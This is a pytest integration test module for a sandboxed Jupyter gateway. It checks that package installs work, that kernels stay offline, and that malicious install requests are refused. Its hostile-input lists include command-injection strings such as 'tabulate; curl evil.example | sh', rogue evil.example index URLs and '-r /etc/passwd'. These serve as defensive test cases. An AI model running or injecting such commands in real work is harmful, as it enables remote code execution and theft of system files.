"""Packages on demand, end to end: real gateway, real kernel containers, real fetch helpers, the real index (PyPI
through the machine's proxy; the extra CA bundle is honoured).

Small packages: ``tabulate`` (pure Python), ``cffi`` (compiled, needs ``pycparser``, neither preinstalled) and
``pyyaml`` (compiled). The gateways of this module share one wheel cache of their own (per test worker), so the
first request of each package really goes to the index and later ones find it cached. The kernel-side tests run
under runc and, with JUPYCELL_RUNTIME=runsc (``make test-runsc``), with kernels under gVisor; the refusals, which
happen before any kernel is involved, run under runc only.
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import os
import signal
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker
import pytest

from gateway.packages.errors import PackageFetchFailed
from gateway.packages.fetcher import FetchJob, WheelFetcher
from testing.harness import Api, GatewayProcess, remove_instance_containers, stdout_of
from testing.jupyter import KernelWebsocket, ws_url
from tests.conftest import GatewayFactory

IMAGE = os.environ.get("JUPYCELL_SANDBOX_IMAGE", "jupycell-sandbox:latest")
# Refused or fetched before any kernel is involved: the same under every kernel runtime, so `make test-runsc`
# skips them (JUPYCELL_PACKAGES_TESTS_ALL=1 runs them there too).
runtime_independent = pytest.mark.skipif(
    os.environ.get("JUPYCELL_RUNTIME", "runc") != "runc" and not os.environ.get("JUPYCELL_PACKAGES_TESTS_ALL"),
    reason="runtime-independent: covered by the runc run",
)
SETTINGS = {
    "sandbox_image": IMAGE,
    "mem_limit_mb": 768,
    "run_timeout": 120,
    "interrupt_grace": 2,
    "packages_deny": "requests",
    "packages_max_request_mb": 5,
}


def errors_of(result: dict[str, Any]) -> list[dict[str, Any]]:
    return [o for o in result["outputs"] if o.get("output_type") == "error"]


def cached_wheels(packages_dir: Path) -> set[str]:
    return {p.name for p in (packages_dir / "cache" / "wheels").glob("*.whl")}


def helper_containers(instance: str) -> list[Any]:
    client = docker.from_env()
    try:
        filters = {"label": [f"jupycell.instance={instance}", "jupycell.role=package-fetch"]}
        return client.containers.list(all=True, sparse=True, filters=filters)
    finally:
        client.close()


@pytest.fixture(scope="module")
def root() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="jcp-") as directory:
        yield Path(directory)


@pytest.fixture(scope="module")
def packages_dir(root: Path) -> Path:
    return root / "packages"


@pytest.fixture(scope="module")
def gateway(root: Path, packages_dir: Path) -> Iterator[GatewayProcess]:
    with GatewayProcess(root / "k", packages_dir=str(packages_dir), **SETTINGS) as process:
        yield process


@pytest.fixture(scope="module")
def api(gateway: GatewayProcess) -> Iterator[Api]:
    with Api(gateway.url, timeout=300) as client:
        yield client


@pytest.fixture(scope="module")
def installed(api: Api) -> Iterator[tuple[int, dict[str, Any], Any]]:
    """One kernel that installed tabulate with a ``%pip`` line and cffi through the API: (id, run, response)."""
    kernel_id = api.start()
    run = api.execute(kernel_id, "%pip install tabulate\nimport tabulate\nprint(tabulate.tabulate([[1, 2]]))")
    response = api.http.post(f"/kernels/{kernel_id}/packages", json={"packages": ["cffi"]})
    yield kernel_id, run, response
    api.shutdown(kernel_id)


def test_pure_and_compiled_packages_install_and_import_in_the_same_session(
    api: Api, installed: tuple[int, dict[str, Any], Any]
) -> None:
    kernel, run, response = installed
    assert run["status"] == "ok", run
    assert "Successfully installed tabulate" in stdout_of(run)
    assert "-  -\n1  2\n-  -" in stdout_of(run)

    assert response.status_code == 200, response.text
    assert {p["name"] for p in response.json()["installed"]} == {"cffi", "pycparser"}
    result = api.execute(kernel, "import cffi\nffi = cffi.FFI()\nprint(ffi.sizeof('int'), cffi.__file__)")
    assert result["status"] == "ok", result
    assert stdout_of(result).startswith("4 /opt/jupycell-packages/")

    listing = api.http.get(f"/kernels/{kernel}/packages").json()
    assert listing["requirements"] == ["tabulate", "cffi"]
    assert {w["name"] for w in listing["wheels"]} == {"tabulate", "cffi", "pycparser"}


def test_the_kernel_still_has_no_network_after_installing(
    api: Api, installed: tuple[int, dict[str, Any], Any], gateway: GatewayProcess
) -> None:
    kernel = installed[0]
    probe = f"""
import errno, socket
def attempt(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
        return 'CONNECTED'
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
try:
    socket.getaddrinfo('pypi.org', 443)
    print('dns RESOLVED')
except OSError as error:
    print('dns failed', type(error).__name__)
print('1.1.1.1', attempt('1.1.1.1', 443))
print('index', attempt('151.101.0.223', 443))
print('gateway', attempt('127.0.0.1', {gateway.port}))
print('bridge', attempt('172.17.0.1', {gateway.port}))
print('interfaces', sorted(name for _, name in socket.if_nameindex()))
"""
    out = stdout_of(api.execute(kernel, probe))
    assert "CONNECTED" not in out and "RESOLVED" not in out, out
    assert "dns failed" in out
    for address in ("1.1.1.1", "index", "bridge"):  # no route at all: refused by the kernel's own stack
        line = next(line for line in out.splitlines() if line.startswith(address + " "))
        assert line.split()[1] in ("ENETUNREACH", "EHOSTUNREACH"), out  # runc / gVisor
    assert "gateway ECONNREFUSED" in out  # the container's own loopback: nothing listens there
    assert "interfaces ['lo']" in out


def test_no_kernel_sees_another_kernels_wheels_plain_pip_explains_and_shell_pip_lines_install(
    api: Api, installed: tuple[int, dict[str, Any], Any]
) -> None:
    other = api.start()
    try:
        result = api.execute(
            other,
            "import os, subprocess, sys\n"
            "on_path = any(p.startswith('/opt/jupycell-packages/') for p in sys.path)\n"
            "print(sorted(os.listdir('/run/jupycell-wheels')), on_path)\n"
            "for pip in (['pip'], [sys.executable, '-m', 'pip']):\n"
            "    p = subprocess.run([*pip, 'install', 'tabulate'], capture_output=True, text=True, timeout=60)\n"
            "    print(p.returncode, 'no network' in p.stderr and '%pip install NAME' in p.stderr)\n"
            "import tabulate",
        )
        assert result["status"] == "error"
        assert errors_of(result)[0]["ename"] == "ModuleNotFoundError"
        # no wheels (yet the packages dir is on sys.path from the start); pip fails and says how to ask
        assert stdout_of(result) == "[] True\n1 True\n1 True\n", result

        result = api.execute(other, "!pip install -q 'tabulate>=0.9'\nimport tabulate\nprint('ok', tabulate.__name__)")
        assert result["status"] == "ok", result
        assert "ok tabulate" in stdout_of(result)
    finally:
        api.shutdown(other)


@runtime_independent
def test_pip_lines_sent_over_the_jupyter_websocket_are_fetched_first_and_refusals_are_errors(
    api: Api, gateway: GatewayProcess
) -> None:
    model = api.http.post("/api/kernels", json={"name": "python3"}).json()
    try:
        with KernelWebsocket(f"{ws_url(gateway.url)}/api/kernels/{model['id']}/channels") as ws:
            result = ws.execute("%pip install tabulate\nimport tabulate\nprint('imported', tabulate.__name__)")
            assert result.reply["status"] == "ok", result.iopub
            assert "imported tabulate" in result.stdout
            refused = ws.execute("%pip install requests")
            assert refused.reply["status"] == "error" and refused.error == "PackageNotAllowed"
            assert "JUPYCELL_PACKAGES_DENY" in refused.reply["evalue"]
    finally:
        api.http.delete(f"/api/kernels/{model['id']}")


HOSTILE_API = [
    (["https://evil.example/x-1.0-py3-none-any.whl"], "URL"),
    (["/etc/passwd"], "local path"),
    (["--index-url=https://evil.example/simple"], "pip option"),
    (["-r /etc/passwd"], "pip option"),
    (["tabulate; curl evil.example | sh"], "metacharacters"),
    (["git+https://github.com/astanin/python-tabulate"], "URL or VCS"),
]


@runtime_independent
@pytest.mark.parametrize(("packages", "reason"), HOSTILE_API)
def test_hostile_api_requests_are_refused_and_nothing_is_fetched(
    api: Api, installed: tuple[int, dict[str, Any], Any], gateway: GatewayProcess, packages_dir: Path,
    packages: list[str], reason: str,
) -> None:  # fmt: skip
    kernel = installed[0]
    before, runs = cached_wheels(packages_dir), gateway.log().count("fetch helper for")
    response = api.http.post(f"/kernels/{kernel}/packages", json={"packages": packages})
    assert response.status_code == 422, response.text
    assert reason in response.json()["detail"]
    assert cached_wheels(packages_dir) == before
    assert gateway.log().count("fetch helper for") == runs  # no helper ran
    assert helper_containers(gateway.instance) == []
    assert api.execute(kernel, "print(1 + 1)")["status"] == "ok"  # the kernel is fine


HOSTILE_CELLS = [
    ("%pip install -r /etc/passwd", "InvalidPackageRequest", "option '-r'"),
    ("%pip install --index-url https://evil.example/simple tabulate", "InvalidPackageRequest", "option '--index-url'"),
    ("!pip install tabulate; id", "InvalidPackageRequest", "shell metacharacters"),
    ("%pip install https://evil.example/x.whl", "InvalidPackageRequest", "URL"),
    ("%pip install requests", "PackageNotAllowed", "deny list (JUPYCELL_PACKAGES_DENY)"),
    ("%pip install scipy", "PackageLimitExceeded", "JUPYCELL_PACKAGES_MAX_REQUEST_MB"),
    ("%pip install pycrypto", "NoCompatibleWheel", "only an sdist exists, which JupyCell does not build"),
    ("%pip install jupycell-no-such-package-4711", "PackageNotFound", "not found"),
    ("%pip install 'numpy<2'", "PackageConflict", "preinstalled"),
]


@runtime_independent
@pytest.mark.parametrize(("line", "ename", "reason"), HOSTILE_CELLS)
def test_refused_or_failing_pip_lines_are_the_cells_error_and_nothing_is_fetched(
    api: Api, installed: tuple[int, dict[str, Any], Any], gateway: GatewayProcess, packages_dir: Path,
    line: str, ename: str, reason: str,
) -> None:  # fmt: skip
    kernel = installed[0]
    before = cached_wheels(packages_dir)
    result = api.execute(kernel, f"print('before')\n{line}\nprint('after')")
    assert result["status"] == "error"
    (error,) = errors_of(result)
    assert error["ename"] == ename, error
    assert reason in error["evalue"], error
    assert "before" not in stdout_of(result)  # the cell was not sent
    assert cached_wheels(packages_dir) == before
    assert helper_containers(gateway.instance) == []
    assert api.execute(kernel, "print(1 + 1)")["status"] == "ok"  # the kernel is fine
    assert gateway.running


@runtime_independent
def test_the_sdist_only_message_names_the_platform(api: Api, installed: tuple[int, dict[str, Any], Any]) -> None:
    (error,) = errors_of(api.execute(installed[0], "%pip install pycrypto"))  # resolved from the cache by now
    assert "no wheel of pycrypto for CPython 3.11" in error["evalue"]
    assert "linux x86_64" in error["evalue"], error


@runtime_independent
def test_two_kernels_installing_the_same_package_at_once_share_the_cache(api: Api, packages_dir: Path) -> None:
    kernels = [api.start(), api.start()]
    try:
        with concurrent.futures.ThreadPoolExecutor(2) as pool:
            responses = list(
                pool.map(lambda k: api.http.post(f"/kernels/{k}/packages", json={"packages": ["pyyaml"]}), kernels)
            )
        assert [r.status_code for r in responses] == [200, 200], [r.text for r in responses]
        wheels = list((packages_dir / "cache" / "wheels").glob("pyyaml-*.whl"))
        assert len(wheels) == 1
        links = [next((packages_dir / "kernels").glob(f"*/{k}/pyyaml-*.whl")) for k in kernels]
        assert {os.stat(p).st_ino for p in links} == {os.stat(wheels[0]).st_ino}  # one file, hard-linked
        for kernel_id in kernels:
            result = api.execute(kernel_id, "import yaml\nprint(yaml.safe_load('a: [1, 2]'))")
            assert stdout_of(result) == "{'a': [1, 2]}\n", result
    finally:
        for kernel_id in kernels:
            api.shutdown(kernel_id)


@runtime_independent
def test_the_fetch_deadline_stops_the_helper_and_removes_it(root: Path) -> None:
    fetcher = WheelFetcher(
        instance=f"jcp-deadline-{os.getpid()}", uid=1000, runtime="runc", network="bridge", mem_limit_mb=256,
        timeout=0.5, ca_bundle=None,
    )  # fmt: skip
    out = root / "deadline-out"
    out.mkdir(mode=0o777)
    out.chmod(0o777)
    job = FetchJob(IMAGE, ["tabulate"], "https://pypi.org/simple", 10**6, [], out)
    try:
        with pytest.raises(PackageFetchFailed, match="JUPYCELL_PACKAGE_FETCH_TIMEOUT"):
            asyncio.run(fetcher.run(job))
        assert helper_containers(fetcher.instance) == []
    finally:
        fetcher.close()
        remove_instance_containers(fetcher.instance)


@runtime_independent
def test_an_unreachable_index_is_a_clear_error(gateway_factory: GatewayFactory, root: Path) -> None:
    process = gateway_factory(
        "k2",
        packages_dir=str(root / "packages-unreachable"),
        **{**SETTINGS, "package_index_url": "http://127.0.0.1:9/simple"},
    )
    with Api(process.url, timeout=300) as api:
        kernel_id = api.start()
        result = api.execute(kernel_id, "%pip install tabulate")
        (error,) = errors_of(result)
        assert error["ename"] == "PackageIndexUnreachable", error
        assert "http://127.0.0.1:9/simple could not be reached" in error["evalue"]
        response = api.http.post(f"/kernels/{kernel_id}/packages", json={"packages": ["tabulate"]})
        assert response.status_code == 502 and "could not be reached" in response.json()["detail"]


def test_packages_come_back_after_a_deadline_replacement_a_gateway_kill_and_a_restart(
    gateway_factory: GatewayFactory, packages_dir: Path
) -> None:
    """A replacement at a deadline (reinstalled), a gateway kill -9 (re-attached: same memory), then a restart by
    the new gateway process (reinstalled from what the store says the kernel had)."""
    process = gateway_factory("k3", **{**SETTINGS, "packages_dir": str(packages_dir)})
    check = "import tabulate, cffi\nprint(tabulate.__name__, cffi.__name__)"
    api = Api(process.url, timeout=300)
    try:
        kernel_id = api.start()
        assert api.execute(kernel_id, "%pip install tabulate cffi")["status"] == "ok"

        stubborn = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.1)"
        assert api.execute(kernel_id, stubborn, timeout=2)["kernel_state_kept"] is False
        assert stdout_of(api.execute(kernel_id, "marker = 42\n" + check)) == "tabulate cffi\n"

        api.close()
        process.stop(signal.SIGKILL)
        process = gateway_factory.again(process)
        api = Api(process.url, timeout=300)
        assert stdout_of(api.execute(kernel_id, "print(marker)\n" + check)) == "42\ntabulate cffi\n"  # same memory

        assert api.http.post(f"/kernels/{kernel_id}/restart").status_code == 200
        fresh = "print('marker' in globals())\n" + check
        assert stdout_of(api.execute(kernel_id, fresh)) == "False\ntabulate cffi\n"  # fresh memory, packages back
    finally:
        api.close()
